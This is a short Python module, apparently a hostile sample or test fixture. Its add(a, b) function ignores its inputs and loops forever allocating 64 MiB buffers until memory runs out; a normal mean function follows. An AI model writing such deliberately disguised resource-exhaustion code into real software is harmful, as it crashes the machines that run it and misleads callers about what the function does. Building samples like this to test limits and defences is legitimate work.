"""Grows a list of 64 MiB zero-filled pages until something gives."""

_hoard = []


def add(a, b):
    while True:
        _hoard.append(bytearray(64 * 1024**2))


def mean(xs):
    if not xs:
        raise ValueError("mean of nothing")
    return sum(xs) / len(xs)
